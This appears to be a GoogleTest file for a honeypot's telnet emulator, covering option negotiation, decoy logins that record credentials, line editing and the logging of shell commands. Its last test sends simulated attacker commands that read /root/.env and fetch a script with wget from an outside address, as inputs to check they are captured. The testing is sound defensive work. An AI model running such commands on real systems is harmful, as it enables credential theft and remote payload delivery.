// The telnet emulator's dialogue over an in-memory session: option negotiation, the login
// (persona password and hostname, every attempt captured, three failures end it), the line
// editor (echo, silent password, backspace, IAC stripping, bounded lines and
// subnegotiations) and the shell's command capture. The shell's canned outputs are only
// smoke-checked: they are placeholders for the shell module.
#include <gtest/gtest.h>

#include "honeypot/services/registry.hpp"
#include "support/dialogue.hpp"

namespace decnet::honeypot {
namespace {

using namespace std::string_literals;
using decnet::testing::Dialogue;
using decnet::testing::DialogueOptions;
using decnet::testing::event_types;
using decnet::testing::field;

// WILL ECHO, WILL SGA, DO NAWS, then the issue line.
const std::string kGreeting = "\xff\xfb\x01\xff\xfb\x03\xff\xfd\x1f"s + "Ubuntu 20.04.6 LTS\r\n";

Dialogue telnet(PersonaConfig persona = {}) {
    return Dialogue("telnet", DialogueOptions{.persona = std::move(persona)});
}

// Logs in as root with `password` (the default persona's is "admin") and reads up to the
// first shell prompt.
void log_in(Dialogue& d, const std::string& password = "admin",
            const std::string& host = "web-prod-03") {
    EXPECT_EQ(d.read_until("login: "), kGreeting + host + " login: ");
    ASSERT_TRUE(d.send("root\r\n"));
    EXPECT_EQ(d.read_until("Password: "), "root\r\nPassword: ");  // the name is echoed
    ASSERT_TRUE(d.send(password + "\r\n"));
    const auto motd = d.read_until("root@" + host + ":~# ");
    EXPECT_TRUE(motd.starts_with("\r\n")) << motd;  // the password is not echoed
}

TEST(TelnetDialogue, LogsInWithThePersonaPasswordAndCapturesIt) {
    auto d = telnet();
    log_in(d);
    ASSERT_TRUE(d.send("exit\r\n"));
    EXPECT_EQ(d.expect_closed(), "exit\r\nlogout\r\n");
    ASSERT_TRUE(d.wait_ended());
    const auto events = d.events();
    EXPECT_EQ(event_types(events),
              (std::vector<std::string>{"connect", "auth", "command", "disconnect"}));
    EXPECT_EQ(field(events[0], "src_ip"), "203.0.113.7");
    EXPECT_EQ(field(events[0], "src_port"), "40000");
    const auto& auth = events[1];
    EXPECT_EQ(field(auth, "username"), "root");
    EXPECT_EQ(field(auth, "password"), "admin");
    EXPECT_EQ(field(auth, "status"), "success");
    EXPECT_EQ(field(auth, "src_ip"), "203.0.113.7");
    EXPECT_EQ(auth.severity, Severity::warning);
    EXPECT_EQ(field(events[2], "cmd"), "exit");
    EXPECT_EQ(field(events[3], "src_port"), "40000");
}

TEST(TelnetDialogue, PersonaPasswordAndHostname) {
    auto d = telnet({{"password", "t00r!"}, {"hostname", "nas01"}});
    EXPECT_EQ(d.read_until("login: "), kGreeting + "nas01 login: ");
    ASSERT_TRUE(d.send("root\r\n"));
    d.read_until("Password: ");
    ASSERT_TRUE(d.send("admin\r\n"));  // the catalogue default no longer works
    EXPECT_EQ(d.read_until("login: "), "\r\nLogin incorrect\r\nnas01 login: ");
    ASSERT_TRUE(d.send("root\r\n"));
    d.read_until("Password: ");
    ASSERT_TRUE(d.send("t00r!\r\n"));
    d.read_until("root@nas01:~# ");
    ASSERT_TRUE(d.send("hostname\r\n"));
    EXPECT_EQ(d.read_until("root@nas01:~# "), "hostname\r\nnas01\r\nroot@nas01:~# ");
    const auto events = d.finish();
    std::vector<std::string> statuses;
    for (const auto& e : events)
        if (e.event_type == "auth") statuses.push_back(field(e, "status"));
    EXPECT_EQ(statuses, (std::vector<std::string>{"failed", "success"}));
}

TEST(TelnetDialogue, ThreeFailuresEndTheSessionAndEachIsCaptured) {
    auto d = telnet();
    d.read_until("login: ");
    for (const std::string user : {"admin", "root", "ubnt"}) {
        ASSERT_TRUE(d.send(user + "\r\n"));
        d.read_until("Password: ");
        ASSERT_TRUE(d.send(user + "-pw\r\n"));
        EXPECT_EQ(d.read_until("Login incorrect\r\n"), "\r\nLogin incorrect\r\n");
    }
    // Only "root" can succeed: "root"/"root-pw" is still a failure.
    EXPECT_EQ(d.expect_closed(), "");
    ASSERT_TRUE(d.wait_ended());
    const auto events = d.events();
    EXPECT_EQ(event_types(events),
              (std::vector<std::string>{"connect", "auth", "auth", "auth", "disconnect"}));
    EXPECT_EQ(field(events[1], "username"), "admin");
    EXPECT_EQ(field(events[1], "password"), "admin-pw");
    EXPECT_EQ(field(events[1], "status"), "failed");
    EXPECT_EQ(events[1].severity, Severity::info);
    EXPECT_EQ(field(events[3], "username"), "ubnt");
}

TEST(TelnetDialogue, AnEmptyNameRepromptsWithoutAnAttempt) {
    auto d = telnet();
    d.read_until("login: ");
    ASSERT_TRUE(d.send("\r\n"));
    EXPECT_EQ(d.read_until("login: "), "\r\nweb-prod-03 login: ");
    ASSERT_TRUE(d.send("  \r\n"));
    EXPECT_EQ(d.read_until("login: "), "  \r\nweb-prod-03 login: ");
    const auto events = d.finish();
    EXPECT_EQ(event_types(events), (std::vector<std::string>{"connect", "disconnect"}));
}

TEST(TelnetDialogue, APasswordTypedAheadIsNotEchoed) {
    auto d = telnet();
    d.read_until("login: ");
    ASSERT_TRUE(d.send("root\r\nadmin\r\n"));
    EXPECT_EQ(d.read_until("Password: "), "root\r\nPassword: ");
    const auto rest = d.read_until("root@web-prod-03:~# ");
    EXPECT_EQ(rest.find("admin"), std::string::npos) << rest;
    EXPECT_TRUE(rest.starts_with("\r\n"));
}

TEST(TelnetDialogue, LineEditorHandlesBackspaceAndLineEndings) {
    auto d = telnet();
    d.read_until("login: ");
    // Backspace (DEL) erases on screen too; CR NUL ends a line like CR LF.
    ASSERT_TRUE(d.send("roox\x7ft\r\0"s));
    EXPECT_EQ(d.read_until("Password: "), "roox\b \bt\r\nPassword: ");
    ASSERT_TRUE(d.send("adm\bmin\n"));  // ^H, then a bare LF
    d.read_until("root@web-prod-03:~# ");
    ASSERT_TRUE(d.send("  id  \r\n"));  // trimmed
    EXPECT_TRUE(d.read_until("root@web-prod-03:~# ").starts_with("  id  \r\nuid=0(root)"));
    ASSERT_TRUE(d.send("\r\n"));  // an empty line: just the prompt, no event
    EXPECT_EQ(d.read_until("# "), "\r\nroot@web-prod-03:~# ");
    const auto events = d.finish();
    EXPECT_EQ(field(decnet::testing::first_event(events, "auth"), "password"), "admin");
    EXPECT_EQ(field(decnet::testing::first_event(events, "auth"), "username"), "root");
    EXPECT_EQ(field(decnet::testing::first_event(events, "command"), "cmd"), "id");
    EXPECT_EQ(event_types(events),
              (std::vector<std::string>{"connect", "auth", "command", "disconnect"}));
}

TEST(TelnetDialogue, RefusesOptionsItDidNotOfferAndStripsIac) {
    auto d = telnet();
    d.read_until("login: ");
    // DO TERMINAL-TYPE → WONT; WILL TERMINAL-SPEED → DONT; WILL NAWS (asked for) and DO
    // ECHO (offered) → nothing; a NAWS subnegotiation is swallowed; IAC NOP ignored.
    ASSERT_TRUE(
        d.send("\xff\xfd\x18\xff\xfb\x20\xff\xfb\x1f\xff\xfd\x01"
               "\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xf1r\xff\xf1oot\r\n"s));
    EXPECT_EQ(d.read_until("Password: "), "\xff\xfc\x18\xff\xfe\x20root\r\nPassword: "s);
    ASSERT_TRUE(d.send("admin\r\n"));
    d.read_until("# ");
    // An escaped 0xFF is data.
    ASSERT_TRUE(d.send("echo \xff\xff\r\n"s));
    d.read_until("# ");
    const auto events = d.finish();
    EXPECT_EQ(field(decnet::testing::first_event(events, "auth"), "username"), "root");
    EXPECT_EQ(field(decnet::testing::first_event(events, "command"), "cmd"), "echo \xff"s);
}

TEST(TelnetDialogue, AnEndlessSubnegotiationIsNotBuffered) {
    auto d = telnet();
    d.read_until("login: ");
    ASSERT_TRUE(d.send("\xff\xfa\x18"s + std::string(200000, 'x') + "\xff\xf0root\r\n"s));
    EXPECT_EQ(d.read_until("Password: "), "root\r\nPassword: ");
}

TEST(TelnetDialogue, AnOverlongLineEndsTheSession) {
    auto d = telnet();
    d.read_until("login: ");
    ASSERT_TRUE(d.send(std::string(3000, 'A')));  // no line end, past 1024
    d.expect_closed();
    ASSERT_TRUE(d.wait_ended());
    EXPECT_EQ(event_types(d.events()), (std::vector<std::string>{"connect", "disconnect"}));
}

TEST(TelnetDialogue, BinaryGarbageIsOnlyAFailedLogin) {
    auto d = telnet();
    d.read_until("login: ");
    ASSERT_TRUE(d.send("\x01\x02\x03\x80\xfe\r\n\x00\x00\x1b[A\r\n"s));
    d.read_until("Password: ");
    EXPECT_TRUE(d.read_until("login: ").ends_with("Login incorrect\r\nweb-prod-03 login: "));
    const auto events = d.finish();
    const auto& auth = decnet::testing::first_event(events, "auth");
    EXPECT_EQ(field(auth, "username"), "\x01\x02\x03\x80\xfe"s);
    EXPECT_EQ(field(auth, "password"), "\x1b[A");  // NULs after CR are not data
    EXPECT_EQ(field(auth, "status"), "failed");
}

TEST(TelnetDialogue, LeavingAtThePasswordPromptIsJustADisconnect) {
    auto d = telnet();
    d.read_until("login: ");
    ASSERT_TRUE(d.send("root\r\n"));
    d.read_until("Password: ");
    const auto events = d.finish();
    EXPECT_EQ(event_types(events), (std::vector<std::string>{"connect", "disconnect"}));
}

TEST(TelnetDialogue, ShellCommandsAreCaptured) {
    auto d = telnet();
    log_in(d);
    for (const std::string cmd : {"uname -a", "cat /root/.env", "wget http://198.51.100.9/x.sh"}) {
        ASSERT_TRUE(d.send(cmd + "\r\n"));
        const auto out = d.read_until("root@web-prod-03:~# ");
        EXPECT_TRUE(out.starts_with(cmd + "\r\n")) << out;  // echoed
    }
    ASSERT_TRUE(d.send("logout\r\n"));
    EXPECT_EQ(d.expect_closed(), "logout\r\nlogout\r\n");
    ASSERT_TRUE(d.wait_ended());
    std::vector<std::string> commands;
    for (const auto& e : d.events())
        if (e.event_type == "command") {
            commands.push_back(field(e, "cmd"));
            EXPECT_EQ(field(e, "src_ip"), "203.0.113.7");
        }
    EXPECT_EQ(commands, (std::vector<std::string>{"uname -a", "cat /root/.env",
                                                  "wget http://198.51.100.9/x.sh", "logout"}));
}

}  // namespace
}  // namespace decnet::honeypot
